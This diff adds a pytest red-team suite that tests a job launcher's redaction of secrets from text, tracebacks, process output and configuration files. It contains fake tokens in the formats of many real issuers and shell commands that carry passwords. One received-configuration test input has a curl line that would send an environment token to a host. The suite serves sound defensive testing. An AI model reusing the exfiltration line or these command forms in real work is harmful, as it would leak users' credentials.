@@ -1,0 +1,258 @@
+"""Secrets on their way out: of any kind, from any place of an error, in any file or stream; and out of a received run.
+
+Each token has the length and characters that its issuer gives; none is a real one.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from functools import partial
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from jobs.cli import main
+from jobs.errors import ConfigError
+from jobs.rundir import RunDir, dump_run, load_run
+from jobs.secrets import REDACTED, redact, redacted, redacted_traceback
+from tests.support.cli import files, printed
+from tests.support.fake_runs import a_run, prepared
+from tests.support.paths import ROOT
+
+pytestmark = pytest.mark.red_team
+
+LETTERS = "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2dF4hJ6kL8n"
+HEX = "0123456789abcdef" * 4
+PLAIN = "hunter2-horse"
+
+TOKENS = {
+    "Anthropic": f"sk-ant-api03-{LETTERS}{LETTERS}-{LETTERS[:11]}AA",
+    "AWS": "AKIA" + "ABCD2345" * 2,
+    "Azure": f"AccountKey={LETTERS}{LETTERS}{LETTERS[:6]}==",
+    "DigitalOcean": f"dop_v1_{HEX}",
+    "Docker Hub": f"dckr_pat_{LETTERS[:27]}",
+    "GitHub": f"ghp_{LETTERS[:36]}",
+    "GitHub, fine-grained": f"github_pat_{LETTERS[:22]}_{LETTERS}",
+    "GitLab": f"glpat-{LETTERS[:20]}",
+    "GitLab deploy": f"gldt-{LETTERS[:20]}",
+    "GitLab job": f"glcbt-64_{LETTERS[:20]}",
+    "Google": f"AIza{LETTERS[:35]}",
+    "Google OAuth": f"ya29.{LETTERS}",
+    "Hugging Face": f"hf_{LETTERS[:34]}",
+    "JSON web token": f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.{LETTERS}",
+    "npm": f"npm_{LETTERS[:36]}",
+    "NVIDIA": f"nvapi-{LETTERS}{LETTERS[:24]}",
+    "OpenAI": f"sk-{LETTERS[:20]}T3BlbkFJ{LETTERS[:20]}",
+    "OpenAI project": f"sk-proj-{LETTERS}{LETTERS[:34]}T3BlbkFJ{LETTERS}",
+    "PyPI": f"pypi-AgEIcHlwaS5vcmc{LETTERS}{LETTERS}",
+    "SendGrid": f"SG.{LETTERS[:22]}.{LETTERS}abc",
+    "Slack": f"xoxb-123456789012-1234567890123-{LETTERS[:24]}",
+    "Slack app": f"xapp-1-A0123456789-1234567890123-{HEX}",
+    "Stripe": f"sk_live_{LETTERS[:24]}",
+    "Vault": f"hvs.{LETTERS}{LETTERS}{LETTERS}",
+    "W&B": f"wandb_v1_{LETTERS}{LETTERS}",
+}
+# Secrets that no token's shape shows: the text around them does. Each ends with PLAIN, which must go.
+NAMED = [
+    f"export DB_PASS={PLAIN}",
+    f"MYSQL_PWD={PLAIN} mysqldump",
+    f"PASS={PLAIN}",
+    f"db_pass: {PLAIN}",
+    f"mysql --password {PLAIN}",
+    f"sshpass -p {PLAIN} ssh node1",
+    f"docker login -u me -p {PLAIN} registry",
+    f"curl -s -u me:{PLAIN} https://host",
+    f"wandb login --relogin {PLAIN}",
+    f"https://me:{PLAIN}@host/x",
+    f"https:/me:{PLAIN}@host/x",
+    f"https://me:p@ss-{PLAIN}@host/x",
+    f"redis://:{PLAIN}@host:6379/0",
+    f"['hf', '--token', '{PLAIN}']",
+    f"('api_key', '{PLAIN}')",
+    f"Authorization: Basic {PLAIN.replace('-', '')}",
+    f'{{"api_key": "{PLAIN}"}}',
+    f"-----BEGIN OPENSSH PRIVATE KEY-----\\n{PLAIN.replace('-', '')}",
+]
+
+
+@pytest.mark.parametrize("kind", TOKENS)
+def test_every_kind_of_token_is_replaced_wherever_it_stands(kind: str) -> None:
+    token = TOKENS[kind]
+    for text in (token, f"path/{token}/x", f"'{token}'", f"key {token}, more", f"a={token};", f"{token}\n"):
+        assert token[-12:] not in redact(text)
+        assert REDACTED in redact(text)
+        assert redact(redact(text)) == redact(text)
+
+
+@pytest.mark.parametrize("text", NAMED)
+def test_a_password_is_known_by_what_stands_before_it(text: str) -> None:
+    shown = redact(text)
+    assert PLAIN not in shown
+    assert PLAIN.replace("-", "") not in shown
+    assert REDACTED in shown
+
+
+@pytest.mark.parametrize("value", ["8letters", "nine-char", "fifteen-letters"])
+def test_a_short_secret_of_the_environment_is_replaced(value: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DB_PASS", value)
+    assert redact(f"login as me with {value} failed") == f"login as me with {REDACTED} failed"
+
+
+def test_a_secret_of_the_environment_is_replaced_as_json_python_and_urls_write_it(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    secret = 'pa"ss wo\\rd/é\n12'
+    monkeypatch.setenv("MY_SECRET", secret)
+    for text in (secret, json.dumps([secret]), repr({"x": secret}), "https://host/?q=pa%22ss%20wo%5Crd%2F%C3%A9%0A12"):
+        assert "ss" not in redact(text)
+
+
+def with_note(error: BaseException, note: str) -> BaseException:
+    error.add_note(note)
+    return error
+
+
+def with_cause(error: BaseException, cause: BaseException) -> BaseException:
+    error.__cause__ = cause
+    return error
+
+
+def with_context(error: BaseException, context: BaseException) -> BaseException:
+    error.__context__ = context
+    return error
+
+
+HF = TOKENS["Hugging Face"]
+ERRORS: dict[str, Callable[[], BaseException]] = {
+    "argument": lambda: RuntimeError(f"401 for {HF}"),
+    "file name": lambda: FileNotFoundError(2, "no such file", f"/cache/{HF}/model"),
+    "second file name": lambda: OSError(18, "cross-device", "/a", None, f"/b/{HF}"),
+    "command": lambda: subprocess.CalledProcessError(1, ["hf", "auth", "login", "--token", PLAIN]),
+    "expired command": lambda: subprocess.TimeoutExpired(f"wandb login {HEX[:40]}", 3),
+    "text that cannot be encoded": lambda: raised_by(lambda: f"{HF} é".encode("ascii")),
+    "bytes that cannot be decoded": lambda: UnicodeDecodeError("utf-8", f"{HF}".encode() + b"\xff", 0, 1, HF),
+    "note": lambda: with_note(ValueError("x"), f"while asking with {HF}"),
+    "key": lambda: KeyError(f"token={HF}"),
+    "key that is a tuple": lambda: KeyError(("api_key", PLAIN)),
+    "nested data": lambda: RuntimeError({"headers": [("x", {"authorization": f"Bearer {HF}"})]}),
+    "group": lambda: ExceptionGroup("two", [ValueError(HF), ExceptionGroup("more", [with_note(ValueError("y"), HF)])]),
+    "cause": lambda: with_cause(RuntimeError("x"), OSError(2, "no", f"/{HF}")),
+    "context": lambda: with_context(RuntimeError("x"), KeyError(HF)),
+    "context of a context": lambda: with_context(RuntimeError("x"), with_context(KeyError("y"), KeyError(HF))),
+    "both": lambda: with_context(with_cause(RuntimeError("x"), ValueError("y")), KeyError(HF)),
+    "module": lambda: ImportError("no", name=HF, path=f"/{HF}.py"),
+    "attribute of a type": lambda: type(HF, (Exception,), {})("x"),
+}
+
+
+def raise_(error: BaseException) -> None:
+    raise error
+
+
+def raised_by(work: Callable[[], object]) -> BaseException:
+    try:
+        work()
+    except Exception as error:  # noqa: BLE001 (every kind of exception is wanted)
+        return error
+    raise AssertionError("nothing was raised")
+
+
+@pytest.mark.parametrize("kind", ERRORS)
+def test_no_part_of_an_exception_carries_a_secret_into_a_traceback(kind: str) -> None:
+    shown = redacted_traceback(raised_by(partial(raise_, ERRORS[kind]())))
+    assert "Traceback (most recent call last)" in shown
+    for secret in (HF, HF[8:], PLAIN, HEX[:40]):
+        assert secret not in shown
+
+
+def test_an_error_that_nothing_catches_is_printed_without_secrets_by_ranks_and_commands(tmp_path: Path) -> None:
+    body = (
+        "import os, sys, threading\n"
+        "def fail(): raise OSError(2, 'no', '/x/' + os.environ['PLACE'])\n"
+        "thread = threading.Thread(target=fail); thread.start(); thread.join()\n"
+        "print('printed', os.environ['PLACE']); sys.stdout.write(os.environ['PLACE']); sys.stdout.flush()\n"
+        "fail()\n"
+    )
+    for guard in ("from jobs.output import outlive_full_disk as guard; guard()\n",
+                  "from jobs.output import guarded_streams; from jobs.secrets import redact\n"
+                  "guard = guarded_streams(redact); guard.__enter__()\n"):  # fmt: skip
+        env = os.environ | {"PLACE": HF, "PYTHONPATH": str(ROOT)}
+        done = subprocess.run([sys.executable, "-c", guard + body], env=env, cwd=tmp_path, capture_output=True,
+                              text=True, check=False)  # fmt: skip
+        assert done.returncode == 1
+        assert done.stderr.count(f"/x/{REDACTED}") == 2, done.stderr
+        assert f"printed {REDACTED}\n" in done.stdout
+        assert HF not in done.stdout + done.stderr
+
+
+def test_the_keys_of_records_are_redacted_as_their_values_are() -> None:
+    assert HF not in json.dumps(redacted({"event": "failed", "by": {HF: 1, "deep": [{"x": (HF, {HF: HF})}]}}))
+
+
+@pytest.mark.parametrize(
+    ("override", "key"),
+    [
+        (f"cluster.setup=['wandb login {HEX[:40]}']", "cluster.setup"),
+        (f"cluster.setup=['export DB_PASS={PLAIN}']", "cluster.setup"),
+        (f"cluster.env={{DB_PASS: {PLAIN}}}", "cluster.env.DB_PASS"),
+        (f"data.path='https://me:{PLAIN}@host/x'", "data.path"),
+        (f"job.init_from='https://:{PLAIN}@host/x'", "job.init_from"),
+        (f"runs_dir='/x/https://me:{PLAIN}@host/x'", "runs_dir"),
+        ("cluster.env={OTHER: '${oc.env:HF_TOKEN}'}", "cluster.env.OTHER"),
+        ("cluster.setup=['login ${oc.env:HF_TOKEN}']", "cluster.setup"),
+    ],
+)  # fmt: skip
+def test_a_secret_is_refused_before_and_after_values_are_settled(
+    override: str, key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Too short to be recognized once it is resolved.
+    monkeypatch.setenv("HF_TOKEN", "short")
+    arguments = ["launcher=dry", "cluster=generic_slurm", f"runs_dir={tmp_path}", override]
+    assert main(["submit", *arguments]) == 2
+    shown = printed(capsys)
+    assert f"{key} contains a password, token or key" in shown
+    assert PLAIN not in shown
+    assert files(tmp_path) == set()
+
+
+def received(tmp_path: Path, setup: str) -> RunDir:
+    """A run directory whose config.yaml was edited."""
+    run = a_run("run", sweep="received")
+    run.cluster.setup = ["module load gcc"]
+    directory = prepared(tmp_path / "received", run)
+    directory.config.write_text(directory.config.read_text().replace("module load gcc", setup))
+    return directory
+
+
+@pytest.mark.parametrize(
+    "setup", ["curl https://host/${oc.env:HF_TOKEN}", "x ${oc.decode:1} y", "${name}", "\\\\${oc.env:HF_TOKEN}"]
+)
+def test_a_received_configuration_reads_nothing_of_the_environment(
+    setup: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HF_TOKEN", HF)
+    directory = received(tmp_path, setup)
+    with pytest.raises(ConfigError, match="is an interpolation, and a frozen configuration has none"):
+        load_run(directory.config)
+    main(["resume", str(tmp_path / "received"), "--launcher", "script"])
+    assert HF not in printed(capsys)
+    assert all(HF not in path.read_text() for path in directory.path.rglob("*") if path.is_file())
+
+
+@given(
+    st.lists(st.sampled_from(["\\", "$", "{", "}", "${", "${oc.env:HOME}", "a", " ", "\n", "'", '"', ":"])).map("".join)
+)
+def test_what_looks_like_an_interpolation_in_a_run_stays_text(
+    tmp_path_factory: pytest.TempPathFactory, text: str
+) -> None:
+    run = a_run()
+    run.cluster.setup, run.cluster.env = [text], {"VALUE": text}
+    file = tmp_path_factory.mktemp("run") / "config.yaml"
+    file.write_text(dump_run(run))
+    assert load_run(file).cluster == run.cluster
